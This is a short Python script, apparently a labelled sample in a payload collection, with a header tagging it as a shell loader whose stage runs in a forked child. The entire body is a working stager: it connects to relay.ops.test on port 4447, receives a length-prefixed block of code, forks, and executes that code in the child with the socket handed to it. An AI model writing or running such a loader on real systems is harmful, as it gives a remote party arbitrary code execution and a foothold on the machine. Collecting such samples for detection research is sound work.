# class: shell; possible: low medium; style: loader, the stage runs in a forked child
import os
import socket
import struct

s = socket.socket()
s.connect(("relay.ops.test", 4447))
size = struct.unpack(">I", s.recv(4, socket.MSG_WAITALL))[0]
code = s.recv(size, socket.MSG_WAITALL)
pid = os.fork()
if pid == 0:
    exec(compile(code, "stage", "exec"), {"s": s})
    os._exit(0)
os.waitpid(pid, 0)
